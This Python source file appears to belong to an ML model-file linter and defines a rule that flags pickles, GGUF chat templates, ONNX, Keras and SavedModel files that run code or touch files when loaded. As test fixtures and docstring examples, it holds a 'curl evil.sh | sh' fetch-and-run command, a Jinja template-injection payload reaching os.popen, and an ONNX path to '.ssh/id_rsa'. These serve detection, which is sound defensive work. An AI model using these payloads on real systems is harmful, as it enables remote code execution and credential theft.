from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING

from modellint.analyzer.serialized.pickle_policy import Verdict, classify, gadget_chain
from modellint.analyzer.serialized.pickles import GlobalRef
from modellint.findings import Finding, Severity
from modellint.rules._base import Invalid, SerializedFileRule, Valid, examples, in_member
from modellint.rules._examples import CLEAN, model_files
from modellint.rules._serialized_examples import (
    call_pickle,
    getattr_pickle,
    gguf_artifact_model,
    gguf_file,
    instance_pickle,
    pickled_model,
    skops_file,
)

if TYPE_CHECKING:
    from pathlib import Path

    from modellint.analyzer.serialized.facts import SerializedFacts

_CHATML = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
           "'<|im_end|>\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")


class UnsafePickle(SerializedFileRule):
    """## What it does
    Classifies everything that loading the model's serialized files imports or calls (REDUCE,
    NEWOBJ, OBJ, INST, BUILD via `__setstate__`, skops constructors) and reports what runs
    commands, code, or touches files or the network: `os.system`, `subprocess.*`,
    `builtins.eval`/`exec`, `runpy`, `pickle.loads`, `pkgutil.resolve_name`,
    `importlib.import_module`, known gadgets in ML libraries (MLflow's project runner,
    `torch.load`, pandas readers, `from_pretrained`, and every function, method or class of
    MLflow, scikit-learn, pandas, NumPy, SciPy, joblib, skops, torch, matplotlib, pyarrow,
    statsmodels, XGBoost, LightGBM, CatBoost, dill, Keras, transformers and TensorFlow whose call
    graph reaches a command, code, nested-deserializer, file-write or network sink, named with that
    chain), dotted names that walk out of a module (`pathlib` + `os.system`), and protocol-0 names
    mapped from Python 2.

    A library callable whose only sink is an in-memory deserializer of its own arguments
    (`keras.layers.Dense(units, activation)`: the activation may be a Keras config, and a config
    of a `__lambda__` is marshalled bytecode) is judged by what the pickle passes it: a dtype name
    or a standard layer's config is data, a config holding a Lambda, an argument built at load
    time, or the callable passed on where its call is not seen (`functools.partial`) is reported.

    `builtins.getattr` is judged by what it is called on: a pickled bound method (`obj.method`
    pickles as `getattr(obj, "method")`) of a class the pickle imports by name, with a literal,
    non-dunder attribute, is judged as the global `module.Class.method`. Any other `getattr`
    (on a module or a by-value object, a dunder such as `__globals__`, a computed name, or the
    function passed on to something else) is reported. `types.MethodType(function, obj)`, which
    cloudpickle writes for a bound method, calls nothing: binding a function the pickle imports
    by name or carries by value is not reported (the function is judged on its own); binding
    anything else (the result of a call, `getattr` itself) is. A nested deserializer whose argument
    is a literal of the file (`torch.storage._load_from_bytes(<bytes>)`, which torch writes for every
    tensor storage, or `pickle.loads(<bytes>)`) is judged by what that payload imports and calls, read
    as the loader would read it; one whose payload cannot be read that way is reported.

    Code a pickle carries by value (a notebook's class or function, which cloudpickle copies as
    bytecode) is judged by when it runs. What runs while the file is unpickled (a function a
    `__reduce__` hands back, so `REDUCE` calls it; `__setstate__` on `BUILD`; `__init__`/`__new__` of
    an instance the pickle makes; hooks Python calls unasked, such as `__hash__` or `__del__`; and
    every by-value function or method those name) is judged like the pickle's own globals: a
    standard-library module outside a few pure ones, an ML library's gadget, `eval`/`exec`/`open`/
    `__import__`, or an import by a computed name is an error. A `PythonModel`'s `load_context`, which
    MLflow calls right after unpickling, is an error when it runs a command or code (loading its
    artifacts is what it is for). Code that runs only when the model is used (`predict`) is a warning
    when it runs a command or code (`os.system`, `subprocess.*`, `eval`). The reading is of names:
    a function that imports `os` and names `system` counts as calling `os.system`.

    A GGUF file's chat template (a Jinja program a runtime renders on each request) that accesses an
    attribute starting with `_` (`cycler.__init__.__globals__`, `self._TemplateReference__context`,
    `|attr('__class__')`) is reported too: rendered outside Jinja's sandbox it reaches `os`.

    Model files of other formats are read for what their load does beyond building values: an
    ONNX tensor whose external data lies outside the model dir (an absolute `location`, one that
    climbs out with `..`, or a symlink leading out) makes onnxruntime read a file of the serving
    machine into the model. A Keras `.keras` archive whose `config.json` (or a legacy `.h5` file
    whose `model_config` attribute) holds a `Lambda` layer
    serialized as marshalled bytecode (`__lambda__`) carries code: Keras 3 refuses it under its
    default `safe_mode=True`, which `mlflow.keras` loads with (so that load fails), and whoever
    loads it with `safe_mode=False` runs it. The other classes such a config names are judged like
    pickle globals. A TensorFlow SavedModel whose graph or functions run ops that read, list or
    write files (`ReadFile`, `MatchingFiles`, `WriteFile`, file readers and datasets, summary and
    debug writers, `ImmutableConst`) or call Python (`PyFunc`, `EagerPyFunc`) does so in the serving
    process; the checkpoint saver and restorer every SavedModel holds are not reported.

    A file that no flavor or artifact in MLmodel names (a `best-model.pkl` left beside the
    `model.pkl` the `sklearn` flavor loads) is reported as a warning that says so: MLflow never
    loads it, but anyone who opens it by hand runs what it calls. When the model runs code of its
    own that may open any file (a `PythonModel`, a custom `loader_module`, a code dir, by-value code
    in a file the flavor loads), every file counts as loaded.

    ## Why is this bad?
    Loading a pickle runs whatever callables it names, before the model is ever used. A denylist
    of "dangerous" names is structurally incomplete (every published scanner bypass found one
    more), so the standard library is judged by a reviewed allowlist: anything not on it is
    reported. Third-party classes from ML libraries are dependencies, not findings.

    ## Example
    ```text
    model.pkl: STACK_GLOBAL 'os' 'system'; REDUCE ('curl evil.sh | sh',)
    ```

    ## Fix
    Do not load the file. Rebuild the model from trusted code and data, or save it with a format
    that cannot run code (skops with reviewed trusted types, ONNX, safetensors).
    """

    code = "ML302"
    name = "unsafe-pickle"
    severity = Severity.ERROR
    fix_title = "Do not load this file; rebuild the model from trusted code and data"

    VALID = examples(lambda: (
        Valid(CLEAN),
        Valid(gguf_artifact_model(gguf_file({"tokenizer.chat_template": _CHATML})),
              note="a GGUF whose chat template reads only the messages"),
        Valid(model_files(**{"artifacts/state.pkl": instance_pickle("collections", "OrderedDict")})),
        Valid(model_files(**{"artifacts/scorer.pkl": getattr_pickle("sklearn.linear_model", "LogisticRegression",
                                                                    "predict_proba", instance=True)}),
              note="a bound method of a class the pickle imports by name"),
    ))
    INVALID = examples(lambda: (
        Invalid(pickled_model(call_pickle("os", "system", "echo pwned")), (("model.pkl", 1),)),
        Invalid(pickled_model(call_pickle("pathlib", "os.system", "echo pwned")),
                (("model.pkl", 1),), note="a dotted name walks from an allowed module to os"),
        Invalid(model_files(model__skops=skops_file(("sklearn.pipeline", "Pipeline"), ("builtins", "eval"))),
                (("model.skops", 1),)),
        Invalid(pickled_model(getattr_pickle("sklearn.linear_model", "LogisticRegression", "__init__",
                                             instance=False)),
                (("model.pkl", 1),), note="a dunder walk toward `__globals__` stays a call of `getattr`"),
        Invalid(gguf_artifact_model(gguf_file({"tokenizer.chat_template":
                                               "{{ cycler.__init__.__globals__.os.popen('id').read() }}"})),
                (("artifacts/model.gguf", 1),),
                note="a GGUF chat template walks from a Jinja global to `os` (CVE-2024-34359)"),
        Invalid(pickled_model(instance_pickle("sklearn.linear_model", "LogisticRegression"),
                              **{"best-model.pkl": call_pickle("os", "system", "echo pwned")}),
                (("best-model.pkl", 1),), severity=Severity.WARNING,
                note="a pickle beside the model that no flavor names: MLflow never loads it, but whoever does "
                     "runs it"),
        *_other_formats(),
    ))

    def check(self, model: SerializedFacts) -> Iterator[Finding]:
        for serialized in model.serialized_files:
            scan = serialized.scan
            reported: set[tuple[str, str]] = set()
            uses = [(site.callable, f"calls `{_display(site.callable)}` ({site.where}")
                    for site in scan.calls]
            uses += [(ref, f"imports `{_display(ref)}` ({ref.where}") for ref in scan.globals]
            loaded = model.loaded_by_mlflow(serialized.relative)
            shown: dict[str, int] = {}
            for hazard in scan.hazards:
                if hazard.kind not in _JUDGED_HAZARDS:
                    continue
                shown[hazard.kind] = shown.get(hazard.kind, 0) + 1
                if shown[hazard.kind] > _MAX_PER_KIND:  # one file can hold thousands: the first tell it
                    if shown[hazard.kind] == _MAX_PER_KIND + 1:
                        more = sum(other.kind == hazard.kind for other in scan.hazards) - _MAX_PER_KIND
                        message = f"`{serialized.relative}` holds {more:,} more such hazards ({hazard.kind}), not listed"
                        yield (self.finding(serialized.path, message, severity=Severity.WARNING)
                               if hazard.kind == "predict-code" else self._loaded_finding(serialized.path, message, loaded))
                    continue
                if hazard.kind in _LOAD_HAZARDS:
                    message = f"loading `{serialized.relative}`{in_member(hazard.member)} {hazard.detail}"
                    yield self._loaded_finding(serialized.path, message, loaded)
                elif hazard.kind == "template-code":  # judged when rendered, not when loaded
                    yield self._loaded_finding(serialized.path, f"`{serialized.relative}`: {hazard.detail}", loaded)
                elif hazard.kind == "predict-code":  # runs when the model is used, not when it loads
                    yield self.finding(serialized.path, f"`{serialized.relative}`{in_member(hazard.member)} "
                                                        f"{hazard.detail}", severity=Severity.WARNING)
            for ref, what in uses:
                key = (ref.module, ref.name)
                if key in reported or classify(ref.module, ref.name) is not Verdict.UNSAFE:
                    continue
                reported.add(key)
                chain = gadget_chain(ref.module, ref.name)
                reaches = (f"which reaches a {chain.replace(': ', ' sink through ', 1)}" if chain else
                           "which can run commands or code, or touch files or the network")
                message = f"loading `{serialized.relative}` {what}{_member(ref)}), {reaches}"
                yield self._loaded_finding(serialized.path, message, loaded)

    def _loaded_finding(self, path: Path, message: str, loaded: bool) -> Finding:
        return self.loaded_finding(path, message, loaded, ", but anyone who loads it runs that code")


def _other_formats() -> tuple[Invalid, ...]:
    """The ONNX, Keras and SavedModel examples (their builders are imported only when examples are read)."""
    from modellint.rules import _format_examples as formats

    serve = formats.tf_function("__inference_serve_7", formats.tf_node("MatMul", "MatMul"),
                                formats.tf_node("ReadFile", "ReadFile"))
    return (
        Invalid(formats.onnx_files(formats.onnx_model(formats.onnx_node("MatMul"), initializers=(
                    formats.external_tensor("w", "../../.ssh/id_rsa"),))),
                (("model.onnx", 1),), note="ONNX external data that climbs out of the model dir"),
        Invalid(formats.keras_files(formats.keras_archive(
                    formats.keras_layer("Lambda", function=formats.LAMBDA_FUNCTION), formats.keras_layer("Dense", units=1))),
                (("data/model.keras", 1),), note="a Keras Lambda layer holding marshalled bytecode"),
        Invalid(formats.saved_model_files({"saved_model.pb": formats.saved_model(functions=(serve,))}),
                (("tf2model/saved_model.pb", 1),), note="a TensorFlow serving function that reads a file"),
    )


def _display(ref: GlobalRef) -> str:
    return f"{ref.module}.{ref.name}"


_MAX_PER_KIND = 5  # hazards of one kind listed per file

# What a non-pickle format's load does that this rule judges (ML310 reports the native code it needs).
_LOAD_HAZARDS = ("runs-code", "reads-outside", "touches-files")
_JUDGED_HAZARDS = (*_LOAD_HAZARDS, "template-code", "predict-code")


def _member(ref: GlobalRef) -> str:
    return f" in `{ref.member}`" if ref.member else ""
